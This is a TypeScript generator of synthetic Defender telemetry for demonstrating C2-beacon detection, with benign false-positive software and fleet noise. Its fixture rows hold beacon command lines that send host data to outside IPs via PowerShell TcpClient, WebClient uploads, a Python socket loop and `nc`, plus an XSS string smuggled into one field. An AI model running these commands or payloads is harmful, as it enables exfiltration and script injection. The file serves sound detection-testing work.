/**
 * Deterministic demo telemetry in Defender's Advanced Hunting shape: the four Atomic Red Team
 * tests of the seed's test plan, the five false-positive families the seed lists, noise, a system
 * binary's name masquerading from a user folder, a C2 rotating its port, and a fleet running the
 * same builds of ordinary software, against which the implants are rare.
 * Pure: the same seed and start time always give the same rows.
 */
export type MdeRecord = Record<string, string | number>;

export interface DemoTelemetry {
  imageLoads: MdeRecord[];
  network: MdeRecord[];
  processes: MdeRecord[];
}

export interface DemoOptions {
  /** ISO instant the demo day starts at. */
  startIso: string;
  seed: number;
}

export const DEFAULT_DEMO_OPTIONS: DemoOptions = { startIso: "2026-11-24T06:00:00Z", seed: 1573001 };

interface Device {
  name: string;
  id: string;
  ip: string;
  windows: boolean;
}

interface DemoProcess {
  device: Device;
  fileName: string;
  folderPath: string;
  pid: number;
  commandLine: string;
  account: string;
  sha256: string;
  parentFileName: string;
  parentPid: number;
  createdMs: number;
  /** Fixed once: every event of the process must carry the same creation time (it is part of its identity). */
  createdIso: string;
}

const MINUTE_MS = 60_000;
/** Devices beside the six above: a 30-device fleet, in which one device is rare and fifteen common. */
const BACKGROUND_DEVICES = 24;
const HOUR_MS = 60 * MINUTE_MS;

/** Mulberry32: small, fast, good enough for demo data, and reproducible. */
export function createRandom(seed: number) {
  let state = seed >>> 0;
  const next = () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
  return {
    next,
    int: (min: number, max: number) => min + Math.floor(next() * (max - min + 1)),
    pick: <T>(items: readonly T[]) => items[Math.floor(next() * items.length)],
    hex: (length: number) => Array.from({ length }, () => Math.floor(next() * 16).toString(16)).join(""),
  };
}

export function generateDemoTelemetry(options: DemoOptions = DEFAULT_DEMO_OPTIONS): DemoTelemetry {
  const random = createRandom(options.seed);
  const startMs = Date.parse(options.startIso);
  const telemetry: DemoTelemetry = { imageLoads: [], network: [], processes: [] };

  const device = (name: string, ip: string, windows = true): Device => ({ name, id: random.hex(40), ip, windows });
  const fin = device("fin-ws-014.corp.example", "10.20.4.14");
  const hr = device("hr-lt-007.corp.example", "10.20.7.31");
  const dev = device("dev-ws-102.corp.example", "10.20.9.102");
  const bkp = device("srv-bkp-01.corp.example", "10.20.1.5");
  const eng = device("eng-ws-221.corp.example", "10.20.5.221");
  const lnx = device("lnx-build-03.corp.example", "10.20.12.3", false);
  const fleet = [fin, hr, dev, bkp, eng];

  // Timestamps carry 7 fractional digits, as Defender writes them.
  const iso = (ms: number) => `${new Date(Math.floor(ms)).toISOString().slice(0, 23)}${String(random.int(0, 9999)).padStart(4, "0")}Z`;

  const spawn = (
    d: Device,
    fileName: string,
    folderPath: string,
    commandLine: string,
    parentFileName: string,
    createdMs: number,
    account = "alice",
    /** Another process's build of the same binary; a new binary by default. */
    sha256?: string,
  ): DemoProcess => {
    const process: DemoProcess = {
      device: d,
      fileName,
      folderPath,
      pid: random.int(1000, 30000) * 4,
      commandLine,
      account,
      sha256: sha256 ?? random.hex(64),
      parentFileName,
      parentPid: random.int(1000, 30000) * 4,
      createdMs,
      createdIso: iso(createdMs),
    };
    telemetry.processes.push({
      ...deviceColumns(d, createdMs),
      ActionType: "ProcessCreated",
      FileName: fileName,
      FolderPath: folderPath,
      ProcessId: process.pid,
      ProcessCommandLine: commandLine,
      ProcessCreationTime: process.createdIso,
      AccountName: account,
      SHA256: process.sha256,
      InitiatingProcessFileName: parentFileName,
      InitiatingProcessId: process.parentPid,
      InitiatingProcessAccountName: account,
    });
    return process;
  };

  function deviceColumns(d: Device, ms: number): MdeRecord {
    return { Timestamp: iso(ms), DeviceId: d.id, DeviceName: d.name };
  }

  function initiatingColumns(p: DemoProcess): MdeRecord {
    return {
      InitiatingProcessFileName: p.fileName,
      InitiatingProcessFolderPath: p.folderPath,
      InitiatingProcessId: p.pid,
      InitiatingProcessCommandLine: p.commandLine,
      InitiatingProcessCreationTime: p.createdIso,
      InitiatingProcessAccountName: p.account,
      InitiatingProcessSHA256: p.sha256,
      InitiatingProcessParentFileName: p.parentFileName,
      InitiatingProcessParentId: p.parentPid,
    };
  }

  const loadDll = (p: DemoProcess, ms: number, dll: string, folder = "C:\\Windows\\System32") =>
    telemetry.imageLoads.push({
      ...deviceColumns(p.device, ms),
      ActionType: "ImageLoaded",
      FileName: dll,
      FolderPath: `${folder}\\${dll}`,
      SHA256: random.hex(64),
      ...initiatingColumns(p),
    });

  const connect = (p: DemoProcess, ms: number, remoteIp: string, remotePort: number, bytes: [number, number], actionType = "ConnectionSuccess") =>
    telemetry.network.push({
      ...deviceColumns(p.device, ms),
      ActionType: actionType,
      RemoteIP: remoteIp,
      RemotePort: remotePort,
      RemoteIPType: ipType(remoteIp),
      LocalIP: p.device.ip,
      LocalPort: random.int(49152, 65535),
      Protocol: "Tcp",
      SentBytes: bytes[0],
      ReceivedBytes: bytes[1],
      ...initiatingColumns(p),
    });

  /** Connections every `periodMs` +/- `jitterMs` from `fromMs` for `durationMs`. */
  const beacon = (p: DemoProcess, fromMs: number, durationMs: number, periodMs: number, jitterMs: number, remoteIp: string, remotePort: number, bytes: () => [number, number]) => {
    for (let t = fromMs; t < fromMs + durationMs; t += periodMs + random.int(-jitterMs, jitterMs)) connect(p, t, remoteIp, remotePort, bytes());
  };

  // Atomic test 1: AES beacon from PowerShell. Two crypto DLLs, so the seed query double counts.
  const aes = spawn(
    fin,
    "powershell.exe",
    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
    'powershell.exe -NoProfile -Command "$aes=[System.Security.Cryptography.Aes]::Create();$aes.Key=[Convert]::FromBase64String(\'q1Zb0V7xk3J0Yq3p8m2n4s6t8v0x2z4B6D8F0H2J4L6=\');while($true){$c=New-Object Net.Sockets.TcpClient(\'185.225.17.44\',4444);$e=$aes.CreateEncryptor();$b=$e.TransformFinalBlock([Text.Encoding]::UTF8.GetBytes($env:COMPUTERNAME),0,8);$c.GetStream().Write($b,0,$b.Length);$c.Close();Start-Sleep 60}"',
    "WINWORD.EXE",
    startMs + 2 * HOUR_MS,
  );
  loadDll(aes, aes.createdMs + 800, "bcrypt.dll");
  loadDll(aes, aes.createdMs + 812, "bcryptprimitives.dll");
  beacon(aes, aes.createdMs + MINUTE_MS, 3 * HOUR_MS, MINUTE_MS, 1500, "185.225.17.44", 4444, () => [random.int(200, 240), random.int(60, 80)]);

  // Atomic test 2: XOR beacon from a hidden PowerShell window (Azorult/Bisonal pattern).
  const xor = spawn(
    hr,
    "powershell.exe",
    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
    "powershell.exe -WindowStyle Hidden -ExecutionPolicy Bypass -Command \"$k=0x5A;$d=[Text.Encoding]::UTF8.GetBytes('beacon');$x=$d|%{$_ -bxor $k};(New-Object Net.WebClient).UploadString('http://91.219.236.18:8888/b',[Convert]::ToBase64String($x))\" <script>alert('xss')</script>",
    "wscript.exe",
    startMs + 3 * HOUR_MS,
    "bob",
  );
  loadDll(xor, xor.createdMs + 640, "rsaenh.dll");
  beacon(xor, xor.createdMs + 2 * MINUTE_MS, 4 * HOUR_MS, 2 * MINUTE_MS, 3000, "91.219.236.18", 8888, () => [random.int(300, 340), random.int(90, 110)]);

  // Atomic test 3: Python with its own RC4, no DLL loads, port 443: invisible to the seed query.
  const rc4 = spawn(
    dev,
    "python.exe",
    "C:\\Users\\carol\\AppData\\Local\\Programs\\Python\\Python312\\python.exe",
    "python.exe -c \"import socket,time;S=list(range(256));j=0;k=b'k3y';[S.__setitem__(slice(i,i+2),[S[(j:=(j+S[i]+k[i%3])%256)],S[i]]) for i in range(256)];exec('while 1:\\n s=socket.create_connection((\\'45.77.65.211\\',443));s.send(bytes(S[:32]));s.close();time.sleep(300)')\"",
    "cmd.exe",
    startMs + HOUR_MS,
    "carol",
  );
  beacon(rc4, rc4.createdMs + 5 * MINUTE_MS, 10 * HOUR_MS, 5 * MINUTE_MS, 5000, "45.77.65.211", 443, () => [random.int(40, 48), random.int(0, 8)]);

  // Atomic test 4: Linux openssl enc followed by nc to the C2 (no DLL loads on Linux).
  const openssl = spawn(lnx, "openssl", "/usr/bin/openssl", "openssl enc -aes-256-cbc -salt -pbkdf2 -in /tmp/.c2/beacon.txt -out /tmp/.c2/beacon.enc -k Sup3rS3cret", "bash", startMs + 5 * HOUR_MS, "build");
  const nc = spawn(lnx, "nc", "/usr/bin/nc", "nc 198.51.100.23 4444 < /tmp/.c2/beacon.enc", "bash", openssl.createdMs + 1200, "build");
  connect(nc, nc.createdMs + 150, "198.51.100.23", 4444, [random.int(1000, 1100), 0]);

  // False-positive families the seed lists: they load crypto DLLs and talk to public IPs on
  // non-standard ports, so the seed query flags them until an analyst allowlists them.
  const falsePositive = (d: Device, fileName: string, folder: string, cmd: string, dlls: string[], remoteIp: string, remotePort: number, periodMs: number, bytes: () => [number, number], account = "SYSTEM") => {
    const p = spawn(d, fileName, `${folder}\\${fileName}`, cmd, "services.exe", startMs + random.int(0, 30) * MINUTE_MS, account);
    dlls.forEach((dll, index) => loadDll(p, p.createdMs + 500 + index * 7, dll));
    beacon(p, p.createdMs + 20_000, 16 * HOUR_MS, periodMs, Math.floor(periodMs / 10), remoteIp, remotePort, bytes);
    return p;
  };
  const sentinel = falsePositive(fin, "SentinelAgent.exe", "C:\\Program Files\\SentinelOne\\Sentinel Agent 23.4.2", '"C:\\Program Files\\SentinelOne\\Sentinel Agent 23.4.2\\SentinelAgent.exe"', ["ncrypt.dll", "bcrypt.dll"], "34.120.31.7", 8883, 5 * MINUTE_MS, () => [random.int(2000, 9000), random.int(500, 1500)]);
  const veeam = falsePositive(bkp, "VeeamAgent.exe", "C:\\Program Files\\Veeam\\Backup and Replication\\Backup", '"C:\\Program Files\\Veeam\\Backup and Replication\\Backup\\VeeamAgent.exe" -l 10005', ["bcrypt.dll"], "20.61.14.90", 10005, 30 * MINUTE_MS, () => [random.int(200, 600) * 1048576, random.int(10000, 20000)]);
  const autodesk = falsePositive(eng, "AdskAccessServiceHost.exe", "C:\\Program Files\\Autodesk\\AdODIS\\V1\\Access", '"C:\\Program Files\\Autodesk\\AdODIS\\V1\\Access\\AdskAccessServiceHost.exe"', ["bcrypt.dll"], "52.94.236.248", 7443, 20 * MINUTE_MS, () => [random.int(1500, 3000), random.int(20000, 90000)]);
  const toolbox = falsePositive(dev, "jetbrains-toolbox.exe", "C:\\Users\\carol\\AppData\\Local\\JetBrains\\Toolbox\\bin", "jetbrains-toolbox.exe --minimize", ["bcrypt.dll", "rsaenh.dll"], "54.72.199.12", 8444, 45 * MINUTE_MS, () => [random.int(1000, 2000), random.int(5000, 40000)], "carol");
  const globalProtect = falsePositive(hr, "PanGPS.exe", "C:\\Program Files\\Palo Alto Networks\\GlobalProtect", '"C:\\Program Files\\Palo Alto Networks\\GlobalProtect\\PanGPS.exe"', ["ncrypt.dll", "cryptsp.dll"], "137.83.209.40", 4501, 2 * MINUTE_MS, () => [random.int(20000, 80000), random.int(50000, 200000)]);
  const intellij = falsePositive(dev, "idea64.exe", "C:\\Program Files\\JetBrains\\IntelliJ IDEA 2026.2\\bin", '"C:\\Program Files\\JetBrains\\IntelliJ IDEA 2026.2\\bin\\idea64.exe"', ["bcrypt.dll"], "18.185.76.33", 9443, 60 * MINUTE_MS, () => [random.int(500, 1500), random.int(1000, 8000)], "carol");

  // Noise: browsers, system services and office apps doing ordinary things.
  const ordinaryDlls = ["kernel32.dll", "user32.dll", "ws2_32.dll", "winhttp.dll", "wininet.dll", "ole32.dll", "crypt32.dll"];
  const publicPeers = ["13.107.42.14", "142.250.185.78", "151.101.1.69", "104.16.132.229", "20.190.159.2"];
  /** The first device's build of each ordinary program: the fleet below runs the same builds. */
  const ordinaryBuilds = new Map<string, DemoProcess>();
  for (const d of fleet) {
    const ordinary = [
      spawn(d, "chrome.exe", "C:\\Program Files\\Google\\Chrome\\Application", '"chrome.exe" --type=utility --utility-sub-type=network.mojom.NetworkService', "explorer.exe", startMs + random.int(0, 60) * MINUTE_MS),
      spawn(d, "svchost.exe", "C:\\Windows\\System32", "svchost.exe -k NetworkService -p -s DoSvc", "services.exe", startMs, "NETWORK SERVICE"),
      spawn(d, "OUTLOOK.EXE", "C:\\Program Files\\Microsoft Office\\root\\Office16", '"OUTLOOK.EXE" /recycle', "explorer.exe", startMs + random.int(0, 90) * MINUTE_MS),
      spawn(d, "OneDrive.exe", "C:\\Users\\alice\\AppData\\Local\\Microsoft\\OneDrive", "OneDrive.exe /background", "explorer.exe", startMs + random.int(0, 30) * MINUTE_MS),
    ];
    for (const p of ordinary) {
      if (!ordinaryBuilds.has(p.fileName)) ordinaryBuilds.set(p.fileName, p);
      loadDll(p, p.createdMs + 300, "bcrypt.dll");
      for (let i = 0; i < 12; i++) loadDll(p, p.createdMs + 400 + i * 50, random.pick(ordinaryDlls));
      for (let i = 0; i < 60; i++) {
        const at = p.createdMs + random.int(1, 16 * 60) * MINUTE_MS + random.int(0, 59_999);
        const port = p.fileName === "svchost.exe" ? random.pick([7680, 443]) : random.pick([443, 443, 443, 80]);
        const failed = random.next() < 0.05;
        connect(p, at, random.pick(publicPeers), port, [random.int(500, 50000), random.int(1000, 500000)], failed ? "ConnectionFailed" : "ConnectionSuccess");
      }
      for (let i = 0; i < 10; i++) connect(p, p.createdMs + random.int(1, 900) * MINUTE_MS, random.pick(["10.20.0.10", "10.20.0.11"]), random.pick([445, 88, 389, 135]), [random.int(100, 4000), random.int(100, 4000)]);
    }
  }

  // Generated last, so the rows above keep their random values.
  // A masquerade: svchost.exe, a name the excluded-system-process list holds, run from a folder any
  // user can write. The seed query never examines it; the default mode flags it.
  const masquerade = spawn(eng, "svchost.exe", "C:\\Users\\Public\\Libraries\\svchost.exe", "svchost.exe -k netsvcs", "rundll32.exe", startMs + 6 * HOUR_MS, "dave");
  beacon(masquerade, masquerade.createdMs + MINUTE_MS, 3 * HOUR_MS, 90_000, 2000, "5.188.86.172", 8443, () => [random.int(300, 380), random.int(100, 160)]);
  // Port rotation: one address, a new port for each connection, so only the address is regular.
  const rotating = spawn(hr, "syncsvc.exe", "C:\\Program Files\\SyncSvc\\syncsvc.exe", '"C:\\Program Files\\SyncSvc\\syncsvc.exe" /service', "services.exe", startMs + 4 * HOUR_MS, "SYSTEM");
  for (let i = 0; i < 90; i++) {
    connect(rotating, rotating.createdMs + MINUTE_MS + i * 2 * MINUTE_MS + random.int(0, 3000), "194.36.189.71", 20000 + random.int(0, 40000), [random.int(200, 260), random.int(80, 120)]);
  }

  // The rest of the fleet: workstations and a second backup server running the same builds (same
  // SHA256) of the programs above, so fleet prevalence tells the software most devices run from a
  // binary only one device runs. They load no crypto library and connect only on standard ports,
  // so they add no finding of their own.
  const sameBuild = (d: Device, build: DemoProcess, createdMs: number) =>
    spawn(d, build.fileName, build.folderPath, build.commandLine, build.parentFileName, createdMs, build.account, build.sha256);
  for (let index = 1; index <= BACKGROUND_DEVICES; index++) {
    const d = index === BACKGROUND_DEVICES ? device("srv-bkp-02.corp.example", "10.20.1.6") : device(`ws-${String(index).padStart(3, "0")}.corp.example`, `10.20.30.${index}`);
    const builds = [sentinel, globalProtect, aes, ...ordinaryBuilds.values()];
    if (index <= 6) builds.push(autodesk);
    else if (index <= 11) builds.push(toolbox, intellij);
    if (index === BACKGROUND_DEVICES) builds.push(veeam);
    for (const build of builds) {
      const p = sameBuild(d, build, startMs + random.int(0, 120) * MINUTE_MS);
      // PowerShell runs everywhere and talks nowhere here; the others talk where they do on the
      // device above (its C2 is that device's alone), over a standard port.
      if (build === aes) continue;
      const peer = telemetry.network.find((row) => row.InitiatingProcessSHA256 === build.sha256 && row.RemoteIPType === "Public")?.RemoteIP;
      if (typeof peer === "string") for (let i = 0; i < 3; i++) connect(p, p.createdMs + random.int(1, 600) * MINUTE_MS, peer, 443, [random.int(500, 5000), random.int(1000, 50000)]);
    }
  }

  const byTime = (a: MdeRecord, b: MdeRecord) => String(a.Timestamp).localeCompare(String(b.Timestamp));
  telemetry.imageLoads.sort(byTime);
  telemetry.network.sort(byTime);
  telemetry.processes.sort(byTime);
  return telemetry;
}

function ipType(ip: string): string {
  if (ip.startsWith("127.")) return "Loopback";
  if (/^(10\.|192\.168\.|172\.(1[6-9]|2\d|3[01])\.)/.test(ip)) return "Private";
  return "Public";
}
